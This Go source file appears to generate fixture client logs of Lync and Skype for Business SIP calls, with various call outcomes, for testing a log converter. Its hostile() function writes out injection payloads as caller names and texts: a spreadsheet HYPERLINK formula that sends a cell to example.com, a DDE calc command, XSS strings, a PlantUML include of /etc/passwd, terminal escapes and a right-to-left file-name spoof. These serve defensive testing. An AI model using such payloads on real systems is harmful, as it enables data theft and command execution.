package curated

import (
	"time"

	"ocsconv/testdata/generate/calls"
	"ocsconv/testdata/generate/logs"
)

// clients are the layouts of client logs, and what happens in calls.
func clients() []File {
	plain := logs.UCCAPI{}.Render
	end := func(outcome calls.Outcome, more func(*calls.Plan)) calls.Plan {
		return with(twoRing, func(p *calls.Plan) {
			p.Outcome, p.Promote, p.ServerProg, p.TalkTime = outcome, false, false, 9*time.Second
			if more != nil {
				more(p)
			}
		})
	}
	return []File{
		file("uccapi/r2-caller.uccapilog", "caller's log of Communicator 2007 R2, with lines of other components: two endpoints ring, the phone answers, ICE ends in host and relay",
			logs.UCCAPI{Rand: source(1), Noise: 30}.Render, call(1, calls.R2, "caller", twoRing)),
		file("uccapi/lync2010-callee-lost.uccapilog", "callee's log of Lync 2010: CANCEL with cause=200 and ms-acceptedby",
			logs.UCCAPI{Rand: source(2), Noise: 20, Blank: true}.Render, call(2, calls.Lync2010, "callee", twoRing)),
		file("uccapi/lync2013-race.uccapilog", "Lync 2013: two endpoints answer at once, the second is hung up",
			plain, call(3, calls.Lync2013, "caller", end(calls.Answered, func(p *calls.Plan) { p.Race, p.Endpoints = true, 3 }))),
		file("uccapi/sfb-im.uccapilog", "Skype for Business: an instant messaging session that three endpoints got, accepted late",
			plain, call(4, calls.SfB, "caller", with(texting, func(p *calls.Plan) { p.Endpoints, p.Delayed = 3, true }))),
		file("uccapi/cancelled.uccapilog", "the caller gives up: CANCEL, its 200, one 487",
			plain, call(5, calls.R2, "caller", end(calls.Cancelled, nil))),
		file("uccapi/declined.uccapilog", "603 of one endpoint ends the call everywhere",
			plain, call(6, calls.Lync2010, "caller", end(calls.Declined, nil))),
		file("uccapi/busy.uccapilog", "486 of the only endpoint",
			plain, call(7, calls.Lync2010, "caller", end(calls.Busy, func(p *calls.Plan) { p.Endpoints = 1 }))),
		file("uccapi/voicemail.uccapilog", "nobody answers, 13006, Exchange Unified Messaging takes the call",
			plain, call(8, calls.R2, "caller", end(calls.Voicemail, nil))),
		file("uccapi/forwarded.uccapilog", "nobody answers, 13006, another user takes the call",
			plain, call(9, calls.Lync2013, "caller", end(calls.Diverted, nil))),
		file("uccapi/no-answer.uccapilog", "nobody answers: 480 with 13001",
			plain, call(10, calls.Lync2010, "caller", end(calls.NoAnswer, nil))),
		file("uccapi/redirected.uccapilog", "302 of an endpoint",
			plain, call(11, calls.Lync2010, "caller", end(calls.Redirected, func(p *calls.Plan) { p.Endpoints = 1 }))),
		file("uccapi/failed.uccapilog", "404 with 1003: no such user",
			plain, call(12, calls.Lync2010, "caller", end(calls.Failed, nil))),
		file("uccapi/challenged.uccapilog", "407, then the INVITE again with CSeq 2; 13004 with a count",
			plain, call(13, calls.Lync2013, "caller", end(calls.Answered, func(p *calls.Plan) { p.Auth, p.Count = true, true }))),
		file("uccapi/retransmissions.uccapilog", "180 and 200 come twice, and a second reliable 183",
			plain, call(14, calls.R2, "caller", end(calls.Answered, func(p *calls.Plan) { p.Retransmit, p.Second = true, true }))),
		file("uccapi/keep-alive.uccapilog", "180 repeated after a minute",
			plain, call(15, calls.R2, "caller", end(calls.Answered, func(p *calls.Plan) { p.KeepAlive = true }))),
		file("uccapi/mobile.uccapilog", "simultaneous ringing: 13005 and a Mediation Server beside one endpoint",
			plain, call(16, calls.R2, "caller", end(calls.Answered, func(p *calls.Plan) { p.Endpoints, p.Mediation = 1, true }))),
		file("uccapi/team.uccapilog", "team call: two colleagues ring after ten seconds",
			plain, call(17, calls.R2, "caller", end(calls.Cancelled, func(p *calls.Plan) { p.Team = 2 }))),
		file("uccapi/six-endpoints.uccapilog", "six endpoints ring, the fourth answers",
			plain, call(18, calls.Lync2010, "caller", end(calls.Answered, func(p *calls.Plan) { p.Endpoints, p.Winner, p.EarlyMedia = 6, 3, false }))),
		file("uccapi/minimal.txt", "the least that the vendor's viewer accepts: no addresses, no octet counts",
			logs.UCCAPI{Minimal: true}.Render, call(19, calls.R2, "caller", short)),
		file("uccapi/one-blank.uccapilog", "one blank before ::, and one after \"Received -\"",
			logs.UCCAPI{OneSpace: true}.Render, call(20, calls.R2, "caller", short)),
		file("uccapi/two-empty-lines.uccapilog", "one empty line more before each trailer, one after it",
			logs.UCCAPI{Gap: true, Blank: true}.Render, call(21, calls.R2, "caller", short)),
		file("uccapi/ipv6.uccapilog", "IPv6 addresses everywhere", plain, ipv6()),
		file("uccapi/hostile.uccapilog", "display names and texts that look like formulas, markup, directives and terminal control", plain, hostile()...),
		file("uccapi/colliding-tags.uccapilog", "two calls at once in which all tags are equal; only the Call-ID tells them apart", plain, colliding()...),
		file("uccapi/equal-clocks.uccapilog", "every time is a full second, so that many messages share one", plain, equalClocks()),
		file("celog/phone.clg.log", "a phone's log: every line of the client log behind two more prefixes",
			logs.UCCAPI{Nested: true, OneSpace: true, Process: 0x4EC0006, Thread: 0x5250012}.Render, call(22, calls.Lync2010, "callee", short)),
	}
}

func ipv6() *calls.Session {
	r := source(23)
	return calls.Play(r, calls.NewCast6(r, calls.Lync2013, 1), twoRing, tuesday).View("caller", 0)
}

// hostile names and texts; the last would end a quoted string early.
func hostile() []*calls.Session {
	names := []string{
		`=HYPERLINK("http://example.com/?"&A1,"click")`, `<script>alert(1)</script>`, "@startuml\\n!include /etc/passwd",
		"+1-1 cmd|' /C calc'!A0", "\x1b[31mred\x1b[0m\x07", "\u202eevil\u202c gpj.exe", "--><svg onload=alert(1)>", `back\slash "quoted"`,
	}
	var all []*calls.Session
	for i, name := range names {
		r := source(100 + uint64(i))
		cast := calls.NewCast(r, calls.Lync2010, 1)
		cast.Owner.Name = name
		plan := calls.Plan{Outcome: calls.Failed}
		if i == 2 {
			plan = with(texting, func(p *calls.Plan) {
				p.Endpoints, p.Text = 1, 3
				p.Phrases = []string{"=1+1\r\n-2+3\r\n@SUM(A1)", "$$end_record\r\n$$begin_record", "end note\r\n@enduml\r\n' \u2066x\u2069"}
			})
		}
		all = append(all, calls.Play(r, cast, plan, tuesday.Add(time.Duration(i)*time.Minute)).View("caller", 0))
	}
	return all
}

// colliding plays the same call twice; only the Call-ID differs.
func colliding() []*calls.Session {
	first, second := call(24, calls.R2, "caller", short), call(24, calls.R2, "caller", short)
	rename(second, first.CallID, "0123456789abcdef0123456789abcdef")
	for _, m := range second.Messages {
		m.Time = m.Time.Add(37 * time.Millisecond)
	}
	return []*calls.Session{first, second}
}

func equalClocks() *calls.Session {
	s := call(25, calls.R2, "caller", twoRing)
	s.SameClock(time.Second)
	return s
}
